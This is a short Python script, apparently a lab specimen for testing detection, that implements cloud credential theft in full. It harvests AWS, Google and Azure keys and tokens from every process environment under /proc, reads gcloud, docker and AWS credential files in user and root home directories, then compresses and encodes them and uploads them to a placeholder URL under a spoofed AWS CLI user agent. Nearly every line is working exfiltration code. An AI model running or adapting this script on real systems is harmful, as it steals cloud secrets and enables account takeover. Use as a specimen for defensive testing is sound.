#!/usr/bin/python3
# kcsi lab specimen: cloud credential theft with Python. Reads the environment of every
# process it can (/proc/*/environ: AWS keys, role ARN, token file), the web-identity token the
# environment points to, gcloud's application-default credentials and docker's registry
# credentials under /home/*, gzips and base64-encodes the lot and PUTs it to @@URL@@ (127.x)
# with an AWS CLI user agent; then waits for the answer (none comes).
import base64, glob, gzip, json, os, socket, urllib.request

loot = {"host": socket.gethostname(), "env": {}, "files": {}}
for env in glob.glob("/proc/[0-9]*/environ"):
    try:
        for kv in open(env, "rb").read().split(b"\0"):
            k, _, v = kv.decode(errors="replace").partition("=")
            if k.startswith(("AWS_", "GOOGLE_", "AZURE_")) or "TOKEN" in k or "SECRET" in k:
                loot["env"][k] = v
    except OSError:
        pass
paths = [loot["env"].get("AWS_WEB_IDENTITY_TOKEN_FILE", "")]
paths += glob.glob("/home/*/.config/gcloud/*.json") + glob.glob("/home/*/.docker/config.json")
paths += glob.glob("/home/*/.aws/credentials") + glob.glob("/root/.aws/credentials")
for p in paths:
    try:
        loot["files"][p] = open(p).read()
    except OSError:
        pass
body = base64.b64encode(gzip.compress(json.dumps(loot).encode()))
req = urllib.request.Request("@@URL@@", data=body, method="PUT",
                             headers={"User-Agent": "@@UA@@", "Content-Type": "application/octet-stream"})
urllib.request.urlopen(req, timeout=None).read()
